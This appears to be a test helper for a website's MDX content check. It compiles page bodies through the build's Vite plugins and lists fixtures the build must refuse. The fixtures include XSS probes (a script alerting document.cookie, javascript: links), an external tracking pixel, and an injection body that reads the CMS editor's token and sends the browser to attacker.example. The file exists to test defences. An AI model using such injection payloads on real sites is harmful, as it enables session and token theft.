// A page's text as the build compiles it, for tests: a body placed after a real page's front-matter goes through
// the Vite plugins' own hooks (the content check, then MDX), so no whole site build is needed. And the bodies the
// build must refuse, shared by the build's tests (tests/unit/content-code.test.ts) and the editor preview's
// (tests/unit/page-text.test.ts), so every case of the build's check is tried in the preview as well.
import fs from 'node:fs'
import path from 'node:path'
import type { Plugin } from 'vite'
import { sitePlugins } from '../../build-steps/vite-plugins.ts'

export const root = path.resolve(import.meta.dirname, '../..')
const plugins = (sitePlugins() as unknown[]).flat(3).filter(Boolean) as Plugin[]
const hook = (name: string) => {
  const plugin = plugins.find((p) => p.name === name)!
  const transform = plugin.transform as (
    this: unknown,
    code: string,
    id: string,
  ) => Promise<{ code: string } | null | undefined> | { code: string } | null
  return transform
}
const contentTransform = hook('thoranam:content')
const mdxTransform = hook('@mdx-js/rollup')
const context = {
  error(message: string | { message: string }): never {
    throw new Error(typeof message === 'string' ? message : message.message)
  },
  warn() {},
  addWatchFile() {},
}

export const EN = 'content/pages/aboutus.mdx'
export const TA = 'content/ta/pages/aboutus.mdx'

/** The front-matter of a real page, so that a fixture body stands in that page's file. */
export function frontmatterOf(file: string): string {
  const source = fs.readFileSync(path.join(root, file), 'utf8')
  return source.slice(0, source.indexOf('\n---\n', 4) + 5)
}

/** The line of the file that holds the body's n-th line (1-based). */
export const lineOf = (file: string, bodyLine: number) => frontmatterOf(file).split('\n').length - 1 + bodyLine

/** Compiles a body as the page `file` through the build's plugins; resolves to the compiled module's code. */
export async function compile(file: string, body: string): Promise<string> {
  const id = path.join(root, file)
  let code = frontmatterOf(file) + body
  const checked = await contentTransform.call(context, code, id)
  if (checked) code = checked.code
  const compiled = await mdxTransform.call(context, code, id)
  return compiled!.code
}

/** The error the build stops with, or "compiled" when it does not stop. */
export async function buildError(file: string, body: string): Promise<string> {
  try {
    await compile(file, body)
    return 'compiled'
  } catch (error) {
    return (error as Error).message
  }
}

/** Bodies the build refuses: what, the body, what the message says, and the body's line it names (else found). */
export const REFUSED_BODIES: [string, string, RegExp, number?][] = [
  ['an inline script', 'Welcome.\n\n<script>alert(document.cookie)</script>\n', /<script>.*cannot run code.*Delete it/],
  ['an import', 'import Secret from "../../tools/serve.mjs"\n\nWelcome.\n', /import.*cannot run code and need no import/],
  ['an export', 'Welcome.\n\nexport const year = new Date().getFullYear()\n', /export.*cannot run code.*front-matter/],
  ['an expression', 'Call us {anytime}.\n', /\{anytime\}.*curly braces.*write \\\{anytime\\\}/],
  ['code in braces', 'Since {new Date().getFullYear() - 8} years.\n', /curly braces.*cannot run code/],
  [
    'an element that is not a component',
    'Welcome.\n\n<div className="x">hello</div>\n',
    /<div>.*not something a page's text can hold.*<CheckList/,
  ],
  ['an HTML line break', 'First line<br>second line\n', /<br>.*backslash/],
  ['an HTML comment', 'Welcome.\n\n<!-- ask Meena about the price -->\n', /<!--.*\{\/\* your note \*\/\}/],
  ['a component of another page', 'Welcome.\n\n<EnquiryForm />\n', /<EnquiryForm>.*only on \/contactus/],
  ['a component given code', 'Welcome.\n\n<CheckList color={"red"}>\n\n- one\n\n</CheckList>\n', /color=\{.*code.*color="#1995AD"/],
  [
    'a javascript: button',
    'Welcome.\n\n<ButtonLink href="javascript:alert(1)">Go</ButtonLink>\n',
    /javascript:.*site path such as \/contactus/,
  ],
  ['a javascript: link', 'Welcome, [click here](javascript:alert(1)).\n', /javascript:.*site path such as \/contactus/],
  ['a component left open', 'Welcome.\n\n<CheckList>\n\n- one\n', /<CheckList> is not closed: end it with <\/CheckList>/, 3],
  [
    'a picture from another site',
    'Welcome.\n\n![Our stage](https://pixel.example/stage.gif)\n',
    /!\[Our stage\]\(https:\/\/pixel\.example\/stage\.gif\): a picture from another site .*"Choose an image".*banner, galleries or tiles/,
    3,
  ],
  [
    'a picture from another site, its address on a line of its own',
    'Welcome.\n\n![Our stage][stage]\n\n[stage]: //pixel.example/stage.gif\n',
    /a picture from another site cannot be in a page's text/,
    3,
  ],
]

/** What a body's code sets when it runs, so a test can tell that it ran. */
export const RAN = '__pageTextRan'

/**
 * Texts that two readers of Markdown read differently: a page's file (front-matter, then the body) against the
 * body alone, CommonMark (the editor's rich-text view) against MDX. Each holds code that sets globalThis[RAN].
 */
export const DIFFERENTIAL_BODIES: [string, string][] = [
  ['a front-matter block at the start of the text, holding an expression', `---\n{globalThis.${RAN} = 'expression'}\n---\n\nWelcome.\n`],
  [
    'a front-matter block at the start of the text, holding an export',
    `---\nexport const stolen = (globalThis.${RAN} = 'export')\n\n---\n\nWelcome.\n`,
  ],
  [
    'a front-matter block that reads the editor’s token and leaves with it',
    "---\n{(globalThis.__pageTextRan = 'token', globalThis.localStorage?.getItem('decap-cms-user'), globalThis.location?.assign('https://attacker.example/'))}\n---\n",
  ],
  ['a byte-order mark before the fence', `\uFEFF---\n{globalThis.${RAN} = 'bom'}\n---\n\nWelcome.\n`],
  ['line breaks of Windows around the fence', `---\r\n{globalThis.${RAN} = 'crlf'}\r\n---\r\n\r\nWelcome.\r\n`],
  ['an HTML comment around code', `<!--\n---\n{globalThis.${RAN} = 'comment'}\n---\n-->\n\nWelcome.\n`],
  ['an HTML comment before a front-matter block', `<!-- note -->\n---\n{globalThis.${RAN} = 'after comment'}\n---\n`],
  ['an indented code block, which MDX does not have', `Example:\n\n    {globalThis.${RAN} = 'indented'}\n`],
  ['a fence indented four spaces, which MDX reads as text', `    \`\`\`\n{globalThis.${RAN} = 'fence'}\n    \`\`\`\n`],
  ['a fence left open, holding code', `\`\`\`\n{globalThis.${RAN} = 'open fence'}\n`],
  ['a fence of tildes closed by backticks', `~~~\n\`\`\`\n~~~\n{globalThis.${RAN} = 'tilde'}\n`],
  ['code between two rules', `Welcome.\n\n---\n{globalThis.${RAN} = 'rules'}\n---\n`],
]
